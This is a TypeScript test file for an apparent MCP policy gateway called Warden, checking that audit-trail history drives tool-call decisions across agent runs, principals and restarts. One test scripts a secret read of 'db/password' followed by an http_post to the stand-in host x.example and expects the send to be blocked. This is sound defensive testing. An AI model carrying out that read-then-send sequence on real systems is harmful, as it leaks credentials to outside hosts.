// History scopes end to end: the shipped policy declares its reads (mcp/history/reads) and its
// workflows choose their scopes, so Warden answers each decision from the read model of the audit
// trail. Real handshake-era clients over HTTP, two principals, W3C traceparents in _meta, the
// example servers over stdio; a second Warden on the same trail shows the model is built from it.
import type { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { connectHttp, startHttpWarden, type InProcessWarden } from '../helpers/http.js';
import { EXAMPLES, ROOT, nodeServer, tempDir, textOf } from '../helpers/warden.js';
import { BEARER, PEOPLE, type Person } from '../http/admin-helpers.js';

const DIR = tempDir('history-scopes');
const config = {
  mcpServers: {
    ci: nodeServer(join(EXAMPLES, 'ci.js'), '$CALL_LOG'),
    ops: nodeServer(join(EXAMPLES, 'ops.js'), '$CALL_LOG'),
    crm: nodeServer(join(EXAMPLES, 'crm.js'), '$CALL_LOG'),
  },
  policy: { bundle: join(ROOT, 'policy') },
  auth: BEARER,
  audit: { store: `sqlite:${join(DIR, 'audit.db')}` },
  // Nobody here is a security officer: the flow rule's approval is never given.
  approval: { timeoutMs: 1500 },
};

const trace = (digit: string): string => `00-${digit.repeat(32)}-${'1'.repeat(16)}-01`;

let w: InProcessWarden;
const clients: Client[] = [];

beforeAll(async () => {
  w = await startHttpWarden(config);
});
afterAll(async () => {
  for (const c of clients) await c.close().catch(() => undefined);
  await w?.close();
});

async function session(who: Person, warden: InProcessWarden = w): Promise<Client> {
  const { client } = await connectHttp(warden.url, { token: PEOPLE[who].token });
  clients.push(client);
  return client;
}

async function call(
  client: Client,
  name: string,
  args: Record<string, unknown>,
  traceparent?: string,
): Promise<{ denied: boolean; text: string }> {
  const result = await client.callTool({ name, arguments: args, ...(traceparent ? { _meta: { traceparent } } : {}) });
  return { denied: result.isError === true && textOf(result).startsWith('Warden denied'), text: textOf(result) };
}

describe('history scopes (mcp/history/reads answered from the trail)', () => {
  test('trace: a secret read in one agent run blocks its sends, not those of another run of the same principal', async () => {
    const alice = await session('alice');
    expect((await call(alice, 'read_secret', { name: 'db/password' }, trace('a'))).denied).toBe(false);
    const sameRun = await call(alice, 'http_post', { url: 'https://x.example/in', body: 'k' }, trace('a'));
    expect(sameRun.denied).toBe(true);
    expect(sameRun.text).toContain(
      'http_post can send data out (openWorldHint) after a result labelled secret (from read_secret) in the same agent run',
    );
    const otherRun = await call(alice, 'http_post', { url: 'https://x.example/in', body: 'k' }, trace('b'));
    expect(otherRun).toMatchObject({ denied: false });
  });

  test('principal: a validation by one principal counts in her other sessions, never for another principal', async () => {
    const first = await session('alice');
    const customer = { customer_id: 'cus_scope', name: 'Ada', email: 'ada@example.com' };
    expect((await call(first, 'validate_customer_data', customer)).denied).toBe(false);
    const carol = await call(await session('carol'), 'create_account', customer);
    expect(carol.denied).toBe(true);
    expect(carol.text).toContain('validate_customer_data must succeed for customer_id=cus_scope before create_account');
    expect((await call(await session('alice'), 'create_account', customer)).denied).toBe(false);
  });

  test('global with correlation: one principal’s tests open another’s scan of that service only', async () => {
    expect((await call(await session('alice'), 'run_tests', { service: 'svc-global' })).denied).toBe(false);
    const carol = await session('carol');
    expect((await call(carol, 'security_scan', { service: 'svc-global' })).denied).toBe(false);
    const other = await call(carol, 'security_scan', { service: 'svc-untested' });
    expect(other.denied).toBe(true);
    expect(other.text).toContain('run_tests must succeed for service=svc-untested before security_scan');
  });

  test('each input carries only the declared history, each entry with the scope it was drawn from', () => {
    const lines = w.decisions().filter((d) => (d['input'] as { call: { name: string } }).call.name === 'security_scan');
    const history = (lines.at(-2)!['input'] as { history: Record<string, unknown>[] }).history;
    expect(history).toEqual([
      expect.objectContaining({ name: 'run_tests', scope: 'global', principal: 'alice', outcome: 'success' }),
    ]);
  });

  test('a Warden started on the same trail decides from it: the history outlives the process', async () => {
    await w.close();
    w = await startHttpWarden(config);
    const bob = await session('bob');
    expect((await call(bob, 'security_scan', { service: 'svc-global' })).denied).toBe(false);
    const carol = await call(await session('carol'), 'create_account', { customer_id: 'cus_scope' });
    expect(carol.denied).toBe(true);
  });
});
